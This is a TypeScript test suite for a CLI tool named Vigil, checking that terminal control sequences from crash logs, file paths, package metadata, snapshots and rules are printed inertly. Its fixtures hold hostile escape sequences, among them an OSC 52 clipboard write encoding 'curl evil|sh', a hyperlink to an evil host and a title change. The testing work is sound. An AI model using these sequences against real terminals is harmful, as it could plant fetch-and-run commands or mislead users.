import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runVigil, tempDir, writeFiles, type CliResult } from './cli-harness.js';

// Issue 15, item 1: the escape sequences of the attack review, in a RuntimeError message.
const OSC52 = '\u001b]52;c;Y3VybCBldmlsfHNo\u0007';
const HOSTILE = `${OSC52} \u001b]0;pwned\u0007 \u001b]8;;http://evil/\u001b\\link\u001b]8;;\u001b\\ \u001bc x\b\b\b \u000e\u000f \u009b2J`;

/** Control characters in the output other than newline, tab and colour codes. */
function survivingControls(text: string): string[] {
  const left: string[] = [];
  for (let at = 0; at < text.length; at++) {
    const code = text.charCodeAt(at);
    if (!(code < 0x20 || (code >= 0x7f && code <= 0x9f)) || text[at] === '\n' || text[at] === '\t') continue;
    if (text[at] === '\u001b' && /^\[[0-9;:]{0,32}m/.test(text.slice(at + 1))) continue;
    left.push(`U+${code.toString(16).padStart(4, '0')}`);
  }
  return left;
}

function expectInert(result: CliResult): void {
  expect(survivingControls(result.stdout), result.stdout).toEqual([]);
  expect(survivingControls(result.stderr), result.stderr).toEqual([]);
}

function crashLog(message: string): string {
  return [
    'INFO 01-01 00:00:00 [api_server.py:1] vLLM API server version 0.11.0',
    'Traceback (most recent call last):',
    '  File "/opt/venv/lib/python3.12/site-packages/vllm/engine.py", line 10, in start',
    '    raise RuntimeError(msg)',
    `RuntimeError: flashinfer failed ${message}`,
    '',
  ].join('\n');
}

describe('no terminal control from a log reaches the terminal', () => {
  it.each(['text', 'markdown', 'json'])('diagnose --format %s', async (format) => {
    const dir = await writeFiles({ 'server.log': crashLog(HOSTILE) });
    const result = await runVigil(['diagnose', join(dir, 'server.log'), '--format', format], {
      env: { FORCE_COLOR: '1', NO_COLOR: undefined },
    });
    expect(result.code).toBe(1);
    expectInert(result);
    expect(result.stdout).toContain('flashinfer failed');
    if (format === 'json') {
      const message = (JSON.parse(result.stdout) as { rootCause: { message: string } }).rootCause.message;
      expect(message).toContain(OSC52);
    } else expect(result.stdout).toContain('\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007');
    if (format === 'text') expect(result.stdout).toContain('\u001b['); // Vigil's own colours still show
  });

  it('diagnose, for any control characters in the message (property)', async () => {
    const dir = await tempDir();
    const controls = fc.string({
      unit: fc.oneof(
        fc.integer({ min: 0, max: 0x9f }).map((code) => String.fromCharCode(code)),
        fc.constant('\u001b]'),
      ),
      minLength: 1,
      maxLength: 40,
    });
    await fc.assert(
      fc.asyncProperty(controls, fc.constantFrom('text', 'markdown', 'json'), async (noise, format) => {
        const file = join(dir, 'server.log');
        await writeFile(file, crashLog(noise.replaceAll('\n', ' ')));
        expectInert(await runVigil(['diagnose', file, '--format', format]));
      }),
      { numRuns: 40 },
    );
  });

  it('error messages quote a hostile path inertly', async () => {
    const result = await runVigil(['diagnose', `/nonexistent/${OSC52}.log`]);
    expect(result.code).toBe(2);
    expectInert(result);
    expect(result.stderr).toContain('\\u001b]52');
  });

  it('check prints a hostile package name inertly', async () => {
    const dir = await tempDir();
    const site = join(dir, 'site-packages');
    const info = join(site, 'evil-1.0.dist-info');
    await mkdir(info, { recursive: true });
    await writeFile(
      join(info, 'METADATA'),
      `Metadata-Version: 2.1\nName: evil${OSC52}\nVersion: 1.0\nRequires-Dist: missing-dep${OSC52}\n`,
    );
    for (const format of ['text', 'markdown', 'json']) {
      const result = await runVigil(['check', '--site-packages', site, '--format', format], {
        env: { PATH: '/nonexistent' },
      });
      expectInert(result);
      expect(result.stdout).toContain('evil');
    }
  });

  it('diff prints hostile snapshots inertly', async () => {
    const snapshot = (version: string) =>
      JSON.stringify({
        schemaVersion: 1,
        environment: {
          python: `/usr/bin/python${OSC52}`,
          sitePackages: ['/x'],
          distributions: [{ name: `torch${OSC52}`, version, installer: `pip\u001bc`, source: 'index' }],
        },
      });
    const dir = await writeFiles({ 'a.json': snapshot(`2.9.0${OSC52}`), 'b.json': snapshot('2.10.0') });
    for (const format of ['text', 'markdown', 'json']) {
      const result = await runVigil(['diff', join(dir, 'a.json'), join(dir, 'b.json'), '--format', format]);
      expectInert(result);
      expect(result.stdout).toContain('torch');
    }
  });

  it('signatures lists a hostile user rule inertly', async () => {
    const dir = await writeFiles({
      'evil.yaml': `id: evil-rule\ntitle: "Evil \\e]52;c;Y3VybCBldmlsfHNo\\a title"\ncategory: other\nexplanation: "x \\e]0;pwned\\a"\nfix: "run \\ec"\nmatch:\n  line: "never-matches-anything"\n`,
    });
    const list = await runVigil(['signatures', '--rules', dir]);
    expectInert(list);
    const shown = await runVigil(['signatures', 'evil-rule', '--rules', dir]);
    expectInert(shown);
  });

  it("run's crash report and its last lines are inert", async () => {
    const script = `process.stdout.write(${JSON.stringify(`starting ${HOSTILE}\n`)}); process.exit(3);`;
    const result = await runVigil([
      'run',
      '--no-preflight',
      '--no-history',
      '--',
      process.execPath,
      '-e',
      script,
    ]);
    expect(result.code).toBe(3);
    expectInert(result);
    expect(result.stdout + result.stderr).toContain('\\u001b]52');
  });
});
